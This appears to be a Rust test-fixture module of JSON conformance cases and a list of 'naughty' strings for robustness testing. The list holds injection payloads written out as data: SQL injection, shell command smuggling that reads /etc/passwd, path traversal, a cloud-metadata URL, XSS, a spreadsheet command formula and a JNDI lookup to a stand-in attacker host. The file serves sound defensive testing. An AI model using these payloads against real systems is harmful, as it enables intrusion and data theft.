//! Hostile words of our own: JSON by category (must be refused, must be understood, may go either way) and texts that break programs.
//! The categories are those of the JSON test suites everybody uses; the cases are written here, none is copied.

/// What a strict reader does with a case.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Expect {
    /// No JSON: refused.
    Refuse,
    /// JSON: whether it fits is another question.
    Read,
    /// Readers differ.
    Either,
}

/// One text in the place of a JSON value.
#[derive(Debug, Clone)]
pub struct Case {
    pub name: String,
    pub expect: Expect,
    pub bytes: Vec<u8>,
}

/// Values for any place in which JSON has one.
pub fn json_values() -> Vec<Case> {
    let mut cases = Vec::new();
    let mut all = |expect: Expect, category: &str, bytes: Vec<Vec<u8>>| {
        for (nth, bytes) in bytes.into_iter().enumerate() {
            let mark = match expect {
                Expect::Refuse => 'n',
                Expect::Read => 'y',
                Expect::Either => 'i',
            };
            cases.push(Case {
                name: format!("{mark}_{category}_{nth}"),
                expect,
                bytes,
            });
        }
    };
    let texts = |texts: &[&str]| texts.iter().map(|text| text.as_bytes().to_vec()).collect::<Vec<_>>();

    all(Expect::Refuse, "number", texts(&NO_NUMBERS));
    all(Expect::Refuse, "literal", texts(&NO_LITERALS));
    all(Expect::Refuse, "string", texts(&NO_STRINGS));
    let control = (0..0x20_u8).map(|byte| vec![b'"', byte, b'"']).collect();
    all(Expect::Refuse, "string_control", control);
    let escapes = (b'!'..=b'~')
        .filter(|byte| !br#""\/bfnrtu"#.contains(byte))
        .map(|byte| vec![b'"', b'\\', byte, b'"'])
        .collect();
    all(Expect::Refuse, "string_escape", escapes);
    all(
        Expect::Refuse,
        "string_bytes",
        NO_UTF8.iter().map(|bytes| [b"\"", *bytes, b"\""].concat()).collect(),
    );
    all(
        Expect::Refuse,
        "bytes",
        NO_UTF8.iter().map(|bytes| bytes.to_vec()).collect(),
    );
    all(Expect::Refuse, "array", texts(&NO_ARRAYS));
    all(Expect::Refuse, "object", texts(&NO_OBJECTS));
    all(Expect::Refuse, "structure", texts(&NO_STRUCTURES));
    let open = ["[", "{\"a\":", "[{\"a\":", "[[1],"];
    all(
        Expect::Refuse,
        "unclosed_depth",
        open.iter().map(|open| open.repeat(1_500).into_bytes()).collect(),
    );

    all(Expect::Read, "number", texts(&NUMBERS));
    all(
        Expect::Read,
        "literal",
        texts(&["true", "false", "null", " true ", "\tnull\r\n"]),
    );
    all(Expect::Read, "string", texts(&STRINGS));
    all(
        Expect::Read,
        "array",
        texts(&[
            "[]",
            "[ ]",
            "[[]]",
            "[1,\"a\",null,true,{}]",
            "[\n1\n]",
            "[null,null]",
            "[\"\"]",
            "[[[[[[[[]]]]]]]]",
        ]),
    );
    all(
        Expect::Read,
        "object",
        texts(&[
            "{}",
            "{\"\":0}",
            "{\"a\":{\"a\":{}}}",
            "{ \"a\" : 1 }",
            "{\"__proto__\":{}}",
            "{\"a\\nb\":1}",
            "{\"constructor\":1,\"toString\":2}",
            "{\"\u{fe0f}\":1}",
        ]),
    );

    all(Expect::Either, "number", texts(&ODD_NUMBERS));
    all(Expect::Either, "string", texts(&ODD_STRINGS));
    all(
        Expect::Either,
        "repeated",
        texts(&["{\"a\":1,\"a\":1}", "{\"a\":1,\"a\":2}", "{\"a\":1,\"\\u0061\":2}"]),
    );
    let close = [("[", "]"), ("{\"a\":", "}")];
    let deep = close.iter().map(|(open, close)| {
        let core = if *open == "[" { "" } else { "0" };
        format!("{}{core}{}", open.repeat(600), close.repeat(600)).into_bytes()
    });
    all(Expect::Either, "depth", deep.collect());
    cases
}

const NO_NUMBERS: [&str; 44] = [
    "01",
    "00",
    "-01",
    "-00",
    "+1",
    "++1",
    "--1",
    "-",
    "+",
    "1.",
    "-1.",
    ".5",
    "-.5",
    "1.e1",
    "1e",
    "1E",
    "1e+",
    "1e-",
    "1e1.5",
    "1e1e1",
    "1.2.3",
    "1..2",
    "0x1F",
    "0b1",
    "0o7",
    "1_000",
    "1,5",
    "1 000",
    "- 1",
    "1a",
    "1e1a",
    "NaN",
    "-NaN",
    "Infinity",
    "-Infinity",
    "inf",
    "1/2",
    "1+1",
    "\u{ff11}",
    "\u{661}",
    "1n",
    "1f",
    "0e",
    "$1",
];

const NO_LITERALS: [&str; 18] = [
    "tru",
    "fals",
    "nul",
    "True",
    "FALSE",
    "Null",
    "undefined",
    "yes",
    "None",
    "truefalse",
    "nulll",
    "true false",
    "tr\u{fc}e",
    "\u{e9}",
    "*",
    "#",
    "@",
    "&amp;",
];

const NO_STRINGS: [&str; 22] = [
    "'a'",
    "\"a",
    "a\"",
    "\"",
    "\"\\\"",
    "\"\\",
    "\"\\u\"",
    "\"\\u1\"",
    "\"\\u12\"",
    "\"\\u123\"",
    "\"\\u12G4\"",
    "\"\\uD83D\\u\"",
    "\"\\uD83D\\uD\"",
    "\"\\U0041\"",
    "\"\\x41\"",
    "\"\\\u{e9}\"",
    "\"a\"b",
    "\"a\" \"b\"",
    "`a`",
    "\u{201c}a\u{201d}",
    "\\u0022a\\u0022",
    "\"a\" + \"b\"",
];

/// Bytes that are no UTF-8: stray, cut short, overlong, surrogates, beyond the last character.
const NO_UTF8: [&[u8]; 14] = [
    b"\xff",
    b"\xfe\xff",
    b"\x80",
    b"\xc0\x80",
    b"\xc0\xaf",
    b"\xe0\x80\xaf",
    b"\xf0\x80\x80\xaf",
    b"\xfc\x83\xbf\xbf\xbf\xbf",
    b"\xed\xa0\x80",
    b"\xed\xbf\xbf",
    b"\xe6\x97",
    b"\xf4\x90\x80\x80",
    b"a\xe9b",
    b"\xc3(",
];

const NO_ARRAYS: [&str; 20] = [
    "[", "]", "[1", "[1,", "[,", "[,1]", "[1,]", "[1,,2]", "[1 2]", "[1:2]", "[1;2]", "[1]]", "[[1]", "[1],[",
    "[\"a\"", "[\"a", "[1\u{c}]", "[1\u{b}]", "[*]", "[a]",
];

const NO_OBJECTS: [&str; 28] = [
    "{",
    "}",
    "{\"a\"",
    "{\"a\":",
    "{\"a\":1",
    "{\"a\":1,",
    "{\"a\":1,}",
    "{,\"a\":1}",
    "{\"a\":1,,\"b\":2}",
    "{\"a\" 1}",
    "{\"a\",1}",
    "{\"a\"::1}",
    "{\"a\"=1}",
    "{\"a\"=>1}",
    "{a:1}",
    "{'a':1}",
    "{1:1}",
    "{null:1}",
    "{[1]:1}",
    "{:1}",
    "{\"a\"}",
    "{\"a\":}",
    "{\"a\":1 \"b\":2}",
    "{\"a\":1}}",
    "{\"a\":1;}",
    "{\"a\":\"b}",
    "{{}}",
    "{\"a\":a}",
];

const NO_STRUCTURES: [&str; 20] = [
    "",
    " ",
    "\n",
    "\u{feff}",
    "\u{feff}1",
    "\u{2060}1",
    "\u{a0}1",
    "\u{c}1",
    "1;",
    "1 //x",
    "1 /* x */",
    "/**/1",
    "// x\n1",
    "1#",
    "<1>",
    "<null>",
    "1\u{0}",
    "[}",
    "{]",
    "(1)",
];

const NUMBERS: [&str; 24] = [
    "0",
    "-0",
    "1",
    "-1",
    "10",
    "123",
    "-123",
    "0.1",
    "-0.1",
    "1.5",
    "1e1",
    "1E1",
    "1e+1",
    "1e-1",
    "-1e-1",
    "0e0",
    "0e+1",
    "1.0e5",
    "123.456e78",
    " 7 ",
    "9007199254740991",
    "9007199254740993",
    "2147483648",
    "-9223372036854775808",
];

const STRINGS: [&str; 24] = [
    "\"\"",
    "\" \"",
    "\"a\"",
    "\"\\\"\\\\\\/\\b\\f\\n\\r\\t\"",
    "\"\\u0041\"",
    "\"\\u00e9\"",
    "\"\\uD834\\uDD1E\"",
    "\"\\uDBFF\\uDFFF\"",
    "\"\\uFFFF\"",
    "\"\\uFDD0\"",
    "\"\\u200B\"",
    "\"\\u2028\\u2029\"",
    "\"\\u001f\"",
    "\"\\u007f\"",
    "\"\u{7f}\"",
    "\"\u{e9}\u{20ac}\u{10348}\"",
    "\"\u{2028}\u{2029}\"",
    "\"\u{ffff}\u{10ffff}\"",
    "\"a/*b*/c//d\"",
    "\"\\\\u0000\"",
    "\"\\\\a\"",
    "\"\u{5b66}\u{6821}\"",
    "\"${jndi:ldap://evil.example/a}\"",
    "\"../../../../etc/passwd\"",
];

const ODD_NUMBERS: [&str; 14] = [
    "1e400",
    "-1e400",
    "1e-400",
    "0.4e00669999999999999999999999999999999999999999999999999999999999999999999999999999999999999999999999",
    "1e99999999999999999999",
    "123456789012345678901234567890",
    "-123456789012345678901234567890",
    "18446744073709551615",
    "18446744073709551616",
    "9223372036854775808",
    "0.000000000000000000000000000000000000000000000000000000000000000000000000000000001",
    "1.7976931348623159e308",
    "100000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000",
    "-0.0",
];

const ODD_STRINGS: [&str; 12] = [
    "\"\\u0000\"",
    "\"a\\u0000b\"",
    "{\"a\\u0000b\":1}",
    "\"\\uD800\"",
    "\"\\uDC00\"",
    "\"\\uDC00\\uD800\"",
    "\"\\uD800\\uD800\"",
    "\"\\uD800\\n\"",
    "\"\\uD83Dx\"",
    "\"\\uD800\\u0041\"",
    "{\"\\uDC00\":1}",
    "[\"\\uD888\\u1234\"]",
];

/// Texts that break programs which take a text for something else; each must come back as it was.
pub fn naughty_texts() -> Vec<String> {
    let mut texts: Vec<String> = NAUGHTY.iter().map(|text| (*text).to_owned()).collect();
    texts.push("\u{0301}".repeat(200));
    texts.push("督".repeat(500));
    texts.push((1..32_u8).map(char::from).collect());
    texts.push(" ".repeat(100));
    texts
}

const NAUGHTY: [&str; 62] = [
    // Words that mean something elsewhere.
    "null",
    "NULL",
    "undefined",
    "true",
    "false",
    "NaN",
    "-0",
    "1e999",
    "0x0",
    "1/0",
    "None",
    "nil",
    "[object Object]",
    // Query languages, shells, templates, paths.
    "' OR ''='",
    "'; DROP TABLE record; --",
    "1; SELECT pg_sleep(9)",
    "\\'; --",
    "$$x$$",
    "%s%n%x",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 %>",
    "$(id)",
    "`id`",
    "; cat /etc/passwd",
    "| id",
    "&& id",
    "../../../etc/passwd",
    "C:\\con\\nul",
    "file:///etc/passwd",
    "http://169.254.169.254/",
    // Pages.
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "javascript:alert(1)",
    "</textarea><b>",
    "&lt;b&gt; &#0; &quot;",
    "]]>",
    "<!--",
    "<?xml version=\"1.0\"?><!DOCTYPE x>",
    // Sheets.
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "@SUM(A1)",
    "-2+3",
    "\t=1",
    // Letters.
    "e\u{301}",
    "\u{e9}",
    "\u{202e}txt.exe\u{202c}",
    "\u{2066}a\u{2069}",
    "a\u{200b}b\u{200d}c\u{feff}",
    "\u{fffe}\u{ffff}\u{10ffff}",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "𠮷野家 㐀 \u{2f804}",
    "﷽",
    "İıſK",
    "ﬁ ﬀ",
    "Ω≈ç√∫˜µ≤≥÷",
    "مرحبا שלום",
    "\r\n\t\u{b}\u{c}\u{85}\u{2028}\u{2029}",
    "\\u0000 \\n \\\\ \\\"",
];
